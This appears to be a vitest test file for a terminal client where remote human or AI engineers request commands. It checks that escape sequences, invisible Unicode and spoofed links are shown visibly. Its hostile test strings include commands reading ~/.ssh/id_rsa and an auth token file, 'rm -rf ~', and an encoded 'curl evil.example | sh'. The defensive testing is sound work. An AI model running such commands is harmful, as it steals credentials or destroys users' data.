import { describe, expect, it } from 'vitest';
import { commandRows, requestFits } from '../../src/ui/requestLayout';
import type { Action, CommandRequest } from '../../src/ui/sessionState';
import { liveScreenAt } from './liveScreen';

const T0 = Date.now();
const { ev, frame, screen } = liveScreenAt(T0);
const expires = new Date(T0 + 90_000).toISOString();

/** Ink's own styling (SGR: colour, bold, dim, inverse) is the only escape allowed in a frame. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: matching Ink's escapes is the point
const INK_SGR = /\x1b\[[0-9;]*m/g;
/** What must never reach the terminal raw: controls, C1, format and invisible characters. */
const RAW = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\u00A0\u2000-\u200A\u3000\u3164]|[\u034F\uFE00-\uFE0F]/u;

function assertClean(out: string, context: string) {
  const m = RAW.exec(out.replace(INK_SGR, '').replace(/\n/g, ''));
  expect(m, `${context}: raw U+${m?.[0].codePointAt(0)?.toString(16)} in\n${out}`).toBeNull();
}

/** Every field an engineer (or the output of a command) controls, filled with `t`. */
function everyField(t: string, n: number): Action[][] {
  const engineer = frame(
    ev('engineer_connected', { engineer: { id: 'e', name: `Maria${t}`, title: `ex${t}` }, kind: 'human' }, 1),
  );
  const base: Action[] = [
    frame(ev('welcome', { taskId: 'task-1', status: 'active', role: 'customer', lastSeq: 0 })),
    { type: 'connection', state: { kind: 'connected' } },
    engineer,
  ];
  const cmd = (id: string, seq: number) =>
    frame(
      ev('request_command', { requestId: id, command: `npm test${t}`, reason: `why${t}`, expiresAt: expires }, seq),
    );
  const file = (id: string, seq: number) =>
    frame(ev('request_file', { requestId: id, path: `src/a${t}.ts`, reason: `why${t}`, expiresAt: expires }, seq));
  // The AI participant and what comes with it: its name and model, guides, the hand-over, the
  // server's note on a human-only task.
  const aiBase: Action[] = [
    ...base.slice(0, 2),
    frame(
      ev('engineer_connected', { engineer: { id: 'codevf-ai', name: `Codie${t}`, title: `model${t}` }, kind: 'ai' }, 1),
    ),
  ];
  const handoff = ev(
    'handoff',
    { from: 'ai', reason: 'model_failed', summary: `sum${t}\nnext${t}`, detail: `d${t}` },
    2,
  );
  return [
    [...base, frame(ev('engineer_message', { text: `hi${t}` }, 2))],
    [...base, cmd('c', 2)],
    [...base, file('f', 2), { type: 'fileChecked', requestId: 'f', size: n, sensitive: true }],
    [...base, file('f', 2), { type: 'fileChecked', requestId: 'f', size: n, sensitive: false }],
    [...base, file('f', 2), { type: 'fileRefused', requestId: 'f', reason: `outside${t}` }],
    [
      ...base,
      cmd('c', 2),
      { type: 'decided', requestId: 'c', approved: true, scope: 'once' },
      { type: 'commandStarted', requestId: 'c' },
      { type: 'commandOutput', requestId: 'c', data: `out${t}\nmore${t}` },
    ],
    [...base, frame(ev('screenshare_request', { url: `https://meet.example/${t}` }, 2))],
    [...base, frame(ev('screenshare_request', { url: `https://meet.example/x${n}` }, 2))],
    [...base, frame(ev('error', { code: 'E_VALIDATION', message: `bad${t}` }))],
    [
      ...base,
      frame(
        ev(
          'session_end',
          {
            endedBy: 'engineer',
            reason: `done${t}`,
            summary: { engineer: `Maria${t}`, durationSeconds: 60, creditsUsed: 1 },
          },
          2,
        ),
      ),
    ],
    [...aiBase, frame(ev('engineer_message', { text: `hi${t}` }, 2))],
    [...aiBase, frame(ev('guide_message', { text: `try${t}`, guide: { id: 'g', name: `Sam${t}` } }, 2))],
    [
      ...aiBase,
      frame(handoff),
      frame(ev('engineer_disconnected', { engineerId: 'codevf-ai' }, 3)),
      frame(ev('task_status', { status: 'queued', queuePosition: n, estimatedWaitSeconds: 60 * n }, 4)),
    ],
    [
      { type: 'taskCreated', taskId: 'task-1', status: 'queued', modeNote: `note${t}`, at: new Date(T0).toISOString() },
      ...base.slice(0, 2),
    ],
  ];
}

const HOSTILE = [
  '\x1b[8m; cat ~/.config/codevf/auth.json #\x1b[0m',
  ' #\r   npm test',
  '\b\b\b\b\bnpm test',
  '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07',
  '\x1b]8;;https://evil.example\x1b\\npm test\x1b]8;;\x1b\\',
  '\x1b]0;codevf — approved\x07',
  '\u202Etxt.exe',
  '\u2066hidden\u2069\u200b\u200d\ufeff\u00ad',
  '\u009b2J\u0085',
  '\x1b[2J\x1b[H\x1b[1A\x1b[K',
  '\ud800',
];

describe('untrusted text on the live screen', () => {
  it('shows every hostile sequence as markers, in every field', () => {
    HOSTILE.forEach((t, i) => {
      for (const actions of everyField(t, i)) assertClean(screen(actions), JSON.stringify(t));
    });
  });

  it('fuzz: random control, escape and Unicode sequences in every field reach the terminal only as markers', () => {
    const alphabet = ['a', ' ', '\n', '\t', '\r', '\b', '\x1b', '[', ']', '8', 'm', ';', '\x07', '\0', '\x7f'];
    alphabet.push('\u009b', '\u202e', '\u2067', '\u200b', '\ufeff', '\u00ad', '\ufe0f', '\ud800', '😀', '世', '\u2028');
    let seed = 7;
    const rand = (n: number) => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return seed % n;
    };
    for (let i = 0; i < 15; i++) {
      let t = '';
      const len = 1 + rand(24);
      for (let j = 0; j < len; j++) t += alphabet[rand(alphabet.length)];
      for (const actions of everyField(t, i)) assertClean(screen(actions, 60 + rand(60)), JSON.stringify(t));
    }
  });

  it('draws the concealed part of a command visibly, byte for byte', () => {
    const out = screen(everyField('\x1b[8m; cat ~/.config/codevf/auth.json #\x1b[0m', 0)[1] ?? []);
    expect(out.replace(INK_SGR, '')).toContain('npm test␛[8m; cat ~/.config/codevf/auth.json #␛[0m');
  });

  it('keeps a chat line from starting at the left edge, where it could pass for the program', () => {
    const base = everyField('', 0)[0]?.slice(0, 3) ?? [];
    const text = 'see below\n[10:00] CodeVF: the engineer is verified';
    const out = screen([...base, frame(ev('engineer_message', { text }, 2))]).replace(INK_SGR, '');
    const fake = out.split('\n').find((l) => l.includes('CodeVF: the engineer is verified'));
    // Indented under the message, past "[hh:mm] Maria: ".
    expect(fake).toMatch(/^ {16}\[10:00\] CodeVF/);
  });

  it('shows only the host of a screenshare link prominently, and refuses user info and other schemes', () => {
    const base = everyField('', 0)[0]?.slice(0, 3) ?? [];
    const share = (url: string) => screen([...base, frame(ev('screenshare_request', { url }, 2))]);
    const ok = share('https://meet.google.com/abc-defg-hij');
    expect(ok).toMatch(/Engineer requests screenshare on: *│\n│ +meet\.google\.com /);
    expect(ok).toContain('[o] open in your browser');
    for (const bad of ['https://meet.google.com@evil.example/x', 'file:///etc/passwd', 'vscode://x/clone']) {
      const out = share(bad);
      expect(out).toContain('cannot be opened');
      expect(out).not.toContain('[o]');
    }
  });
});

describe('a long command is shown whole', () => {
  it('numbers every line, so a command after 60 blank lines is line 61 and not off screen', () => {
    const command = `npm test${'\n'.repeat(60)}cat ~/.ssh/id_rsa`;
    const rows = commandRows(command, 80);
    expect(rows).toHaveLength(61);
    expect(rows[60]?.gutter).toBe('61 │ ');
    expect(rows[60]?.segments).toEqual([{ text: 'cat ~/.ssh/id_rsa', escaped: false }]);
  });

  it('wraps long lines instead of cutting them', () => {
    const command = `echo ${'x'.repeat(200)}; rm -rf ~`;
    const rows = commandRows(command, 50);
    expect(rows.map((r) => r.segments.map((s) => s.text).join('')).join('')).toBe(command);
    expect(rows.every((r) => r.segments.map((s) => s.text).join('').length <= 50)).toBe(true);
  });

  it('turns the keys off and says so when the request does not fit the terminal', () => {
    const command = `npm test${'\n'.repeat(60)}cat ~/.ssh/id_rsa`;
    const r = { kind: 'command', command, reason: 'x', deadline: null } as CommandRequest;
    expect(requestFits(r, { columns: 100, rows: 24 }).fits).toBe(false);
    expect(requestFits(r, { columns: 100, rows: 90 }).fits).toBe(true);
    const base = everyField('', 0)[0]?.slice(0, 3) ?? [];
    const out = screen([
      ...base,
      frame(
        ev(
          'request_command',
          { requestId: 'c', command, reason: 'x', expiresAt: new Date(T0 + 60_000).toISOString() },
          2,
        ),
      ),
    ]);
    expect(out).toContain('The terminal is too small to show the whole request');
    expect(out).not.toContain('[y] run once');
  });
});
